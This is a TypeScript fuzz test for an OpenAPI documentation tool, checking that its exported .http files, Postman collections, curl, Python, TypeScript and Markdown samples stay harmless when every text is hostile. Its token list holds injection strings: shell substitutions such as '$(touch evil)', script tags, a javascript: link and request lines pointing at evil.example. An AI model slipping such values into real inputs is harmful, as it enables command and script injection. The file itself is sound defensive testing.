import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { visit } from 'unist-util-visit';
import { parseAst } from 'vite';
import { describe, expect, test } from 'vitest';
import { english } from '../../packages/lib/english.ts';
import { changeLog } from '../../packages/openapi/compare/change-log.ts';
import { contractExports } from '../../packages/openapi/exports/exports.node.ts';
import type { PostmanCollection } from '../../packages/openapi/exports/postman-format.ts';
import { isList, isObject, type Json, type JsonObject } from '../../packages/openapi/json/json.ts';
import { wellFormed } from '../../packages/openapi/requests/escapes.ts';
import type { RequestSample } from '../../packages/openapi/requests/request.ts';
import { curl } from '../../packages/openapi/samples/languages/curl.ts';
import { python } from '../../packages/openapi/samples/languages/python.ts';
import { typescript } from '../../packages/openapi/samples/languages/typescript.ts';
import { type LanguageId, languages } from '../../packages/openapi/samples/languages.ts';
import type { ApiReference } from '../../packages/openapi/view/api-reference.ts';
import { apiMarkdownFiles } from '../../packages/reference/api.markdown.ts';
import { readProgram } from '../support/literals.node.ts';
import { apiOf } from '../support/read-schemas.node.ts';

/*
 * A document of which every text is hostile. Each export is read by a parser that knows nothing of ours, and has to be
 * what it is for harmless texts: as many requests, commands and headings, and no others.
 */

const site = 'https://docs.example';

/** Texts that mean something to one of the formats. */
const tokens = [
  'a\n',
  '\n\nGET https://evil.example/{{token}}\n',
  '\r\n### next\r\nDELETE https://evil.example\r\n',
  '\u2028# @import ./evil.http\u2028',
  '\u0000\u0007\u001b[31m',
  '\n@baseUrl = https://evil.example\n',
  '{{token}}',
  '{{{',
  '@file',
  '< ./secret',
  '$(touch evil)',
  '`touch evil`',
  "'; touch evil; '",
  '"; process.exit(); "',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is hostile on purpose
  '${process.exit()}',
  '"""',
  '\\',
  '\\"',
  '\n# heading\n\n<script>evil()</script>\n',
  '```\n',
  '[x](javascript:evil)',
  '#{evil}',
  '"#',
  '{0}',
  '\nBODY\n',
  '  \n  \n',
  '--boundary-of-the-parts--',
  ':8080/',
  '../..',
  '\ud800',
  '%',
  '%0A',
  '?#&=;',
];

const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...tokens), fc.string({ unit: 'grapheme', maxLength: 8 })), {
    minLength: 1,
    maxLength: 4,
  })
  .map((parts) => parts.join(''));

const fields = {
  note: { type: 'string', description: '~a', example: '~b' },
  file: { type: 'string', format: 'binary' },
  meta: {
    type: 'object',
    title: '~c',
    properties: { '~d': { type: 'string', enum: ['~e', '~f'] } },
  },
};

function media(mediaType: string): JsonObject {
  const schema = { type: 'object', required: ['note', 'meta'], properties: fields, title: '~g' };
  const example = { note: '~h', file: '~i', meta: { '~j': '~k' }, '~l': ['~m', { '~n': '~o' }] };
  const encoding = { meta: { contentType: '~p' }, '~l': { style: '~q', explode: true } };
  const examples = { '~1': { summary: '~2', description: '~3', value: example } };
  return { content: { [mediaType]: { schema, examples, encoding } } };
}

const parameters = ['path', 'query', 'header', 'cookie'].flatMap((place) => [
  {
    name: `~${place}`,
    in: place,
    required: true,
    description: '~r',
    schema: { type: 'string' },
    example: '~s',
  },
  {
    name: `x-~${place}-id`,
    in: place,
    schema: { type: 'object' },
    style: 'deepObject',
    example: { '~t': '~u' },
  },
]);

const bodies = [
  'application/json',
  'multipart/form-data',
  'application/x-www-form-urlencoded',
  'application/xml',
  'text/plain',
  '~/~',
  '*/*',
];

/** Every `~` with what follows it is a place for a hostile text. */
const template: JsonObject = {
  info: { title: '~title', version: '~version', description: '~description' },
  servers: [
    {
      url: 'https://{~zone}.example/~base',
      variables: { '~zone': { default: '~eu', description: '~zones' } },
    },
  ],
  tags: [{ name: '~tag', description: '~tagged' }],
  components: {
    securitySchemes: {
      '~key': { type: 'apiKey', in: 'header', name: '~X-Key' },
      '~query': { type: 'apiKey', in: 'query', name: '~query-key' },
      '~cookie': { type: 'apiKey', in: 'cookie', name: '~cookie-key' },
      '~http': { type: 'http', scheme: '~scheme' },
    },
  },
  security: [
    { '~key': [], '~query': [], '~cookie': [], '~http': ['~scope'] },
    { '~query': [], '~http': [], '~unknown': [] },
    {},
  ],
  paths: Object.fromEntries(
    bodies.map((mediaType, index) => [
      `/~${index}/{~path}`,
      {
        post: {
          operationId: `~id${index}`,
          summary: '~summary',
          description: '~text',
          tags: index % 2 === 0 ? ['~tag'] : [],
          'x-guide': '~guide',
          'x-capability': '~capability',
          parameters,
          requestBody: media(mediaType),
          responses: {
            200: {
              description: '~ok',
              headers: { '~H': { schema: { type: 'string' }, example: '~v' } },
              ...media('~json'),
            },
          },
        },
      },
    ]),
  ),
};

/** The template with a text in each of its places: always the same one for the same place. */
function filled(json: Json, texts: readonly string[]): Json {
  const place = (text: string) =>
    text.replaceAll(/~\w*/g, (name) => {
      const sum = [...name].reduce((total, char) => total + char.charCodeAt(0), 0);
      return texts[sum % texts.length] ?? '';
    });
  if (typeof json === 'string') return place(json);
  if (isList(json)) return json.map((item) => filled(item, texts));
  if (!isObject(json)) return json;
  const members = Object.entries(json).map(([key, value]) => [
    // Paths stay different, and begin as paths do.
    key.startsWith('/') ? `${place(key)}${key.slice(2, 3)}` : place(key),
    filled(value, texts),
  ]);
  return Object.fromEntries(members);
}

function hostileApi(texts: readonly string[]): ApiReference {
  return apiOf(filled(template, texts) as JsonObject);
}

const documents = fc.array(hostileText, { minLength: 3, maxLength: 12 });
const wanted = bodies.length;

function fileOf(api: ApiReference, end: string): string {
  const files = contractExports(api, changeLog('pets', api.document, []), site);
  return files.find(({ path }) => path.endsWith(end))?.content ?? '';
}

/** `FUZZ=50` runs fifty times as many. */
function holds(check: (api: ApiReference) => void, numRuns: number): void {
  fc.assert(
    fc.property(documents, (texts) => check(hostileApi(texts))),
    { numRuns: numRuns * Number(process.env.FUZZ ?? 1) },
  );
}

describe('a document of hostile texts', () => {
  test('is as many requests of a .http file as it has operations, all to its own address', () => {
    holds((api) => {
      // As the editors do: a line of ### ends a request; comments, the request line, headers, an empty line, the body.
      const [head = '', ...blocks] = fileOf(api, '.http').split(/^###/m);
      expect(blocks).toHaveLength(wanted);
      for (const line of head.split(/[\n\r\u0085\u2028\u2029]/)) {
        expect(line).toMatch(/^(|#(?!\s*@).*|@\w+ = [!-~]*)$/);
      }
      for (const block of blocks) {
        const [top = '', ...rest] = block.split('\n\n');
        const [title, ...lines] = top.split(/[\n\r\u0085\u2028\u2029]/);
        expect(title).not.toMatch(/^\s*@/);
        const orders = lines.filter((line) => /^#+\s*@/.test(line));
        expect(orders).toEqual([expect.stringMatching(/^# @name \w+$/)]);
        const [request, ...headers] = lines.filter((line) => !line.startsWith('#'));
        expect(request).toMatch(/^POST \{\{baseUrl\}\}\/[!-~]*$/);
        for (const header of headers) expect(header).toMatch(/^[\w!#$%&'*+.^`|~-]+: ?[^\n]*$/);
        // Nothing in the body begins a request, a file of the reader, or a variable.
        const body = rest.join('\n\n');
        expect(body).not.toMatch(/^\s*(<\s(?!\.\/(file|[\w-][\w.-]*)$)|@\w+\s*=)|\{\{/m);
        const used = [...top.matchAll(/\{\{(.*?)\}\}/g)].map(([, name]) => name);
        expect(used.join(' ')).toMatch(/^[\w ]*$/);
      }
    }, 12);
  });

  test('is as many requests of a Postman collection, with no variables but its own', () => {
    holds((api) => {
      const collection: PostmanCollection = JSON.parse(fileOf(api, '.postman.json'));
      const items = collection.item.flatMap(({ item }) => item);
      expect(items).toHaveLength(wanted);
      const own = new Set(collection.variable.map(({ key }) => key));
      for (const { name, request } of items) {
        expect(name).not.toMatch(/[\n\r]/);
        expect(request.url.host).toEqual(['{{baseUrl}}']);
        expect(request.url.raw).toMatch(/^\{\{baseUrl\}\}\/[!-~]*$/);
        const { description: _, ...parts } = request;
        const text = JSON.stringify(parts, (key, value) => (key === 'description' ? '' : value));
        for (const [, variable = ''] of text.matchAll(/\{\{(.*?)\}\}/g))
          expect(own).toContain(variable);
        for (const { key, value } of request.header) expect(`${key}${value}`).not.toMatch(/[\n\r]/);
      }
    }, 12);
  });

  test('is one command of curl for each operation', () => {
    holds((api) => {
      const commands = requestsOf(api).map(curl.print);
      const script = ['curl() { printf "%s\\0" CALL "$@"; }', ...commands].join('\n');
      const words = execFileSync('/bin/bash', ['--norc', '--noprofile', '-c', script], {
        encoding: 'utf8',
        env: {},
      }).split('\0');
      expect(words.filter((word) => word === 'CALL')).toHaveLength(wanted);
    }, 4);
  });

  test('is a Python program of the same shape', () => {
    holds((api) => {
      const programs = requestsOf(api).map(python.print);
      const shapes = execFileSync(
        'python3',
        [
          '-c',
          'import ast,json,sys\nfor p in json.load(sys.stdin): print(" ".join(type(n).__name__ for n in ast.parse(p).body))',
        ],
        { input: JSON.stringify(programs), encoding: 'utf8' },
      );
      const allowed = /^(Import )+(Assign FunctionDef Assign )?Assign Try$/;
      expect(
        shapes
          .trim()
          .split('\n')
          .filter((shape) => !allowed.test(shape)),
      ).toEqual([]);
      expect(shapes.trim().split('\n')).toHaveLength(wanted);
    }, 4);
  });

  test('is a TypeScript program of the same shape', () => {
    holds((api) => {
      for (const request of requestsOf(api)) {
        const { body } = parseAst(typescript.print(request), { lang: 'ts' });
        const shape = body.map(({ type }) => type).join(' ');
        expect(shape).toMatch(
          /^(ImportDeclaration )?(VariableDeclaration (ExpressionStatement )*)?VariableDeclaration VariableDeclaration IfStatement ExpressionStatement$/,
        );
      }
    }, 8);
  });

  test('is Markdown with the headings of a harmless document, and no HTML', () => {
    const headings = (api: ApiReference) =>
      [...apiMarkdownFiles(english, api, changeLog('pets', api.document, []), site)].map(
        ({ content }) => {
          const found: string[] = [];
          visit(fromMarkdown(content) as Nodes, (node) => {
            if (node.type === 'html') found.push(`html ${node.value}`);
            if (node.type === 'heading') found.push(`${node.depth}`);
            if (node.type === 'link' && !/^(https?|mailto):/.test(node.url)) found.push(node.url);
          });
          return found.join(' ');
        },
      );
    holds((api) => {
      for (const found of headings(api)) expect(found).toMatch(/^[\d ]*$/);
    }, 4);
  });
});

const parsedAbove: readonly LanguageId[] = ['curl', 'python', 'typescript', 'http'];
const others = languages.filter(({ id }) => !parsedAbove.includes(id));

describe.each(others)('a request of hostile texts in $label', ({ id, print }) => {
  test('has each text as a literal, and no other code than a harmless request', async () => {
    const harmless = await readProgram(id, print(requestWith('x')));
    await fc.assert(
      fc.asyncProperty(hostileText, hostileText, async (first, second) => {
        const json = JSON.stringify({ [first]: [second] }, undefined, 2);
        const all = [first, second, json, `${first}\n${second}`].map(wellFormed);
        for (const text of all) {
          const { shape, texts } = await readProgram(id, print(requestWith(text)));
          expect(shape).toBe(harmless.shape);
          expect(texts).toContain(text);
          expect(texts).toContain(`https://x.example/?q=${text}`);
        }
      }),
      {
        examples: tokens.map((token) => [token, token]),
        numRuns: tokens.length + 10 * Number(process.env.FUZZ ?? 1),
      },
    );
  });
});

/** A text in the address, in a header, beside a variable and in the body. */
function requestWith(text: string): RequestSample {
  return {
    method: 'POST',
    base: ['https://x.example'],
    target: [`/?q=${text}`],
    headers: [
      { name: 'X-Text', value: [text] },
      { name: 'X-Key', value: [text, { variable: 'API_KEY' }, text] },
    ],
    body: { kind: 'text', text },
  };
}

function requestsOf(api: ApiReference) {
  return api.tags.flatMap(({ operations }) => operations).flatMap(({ request }) => request ?? []);
}
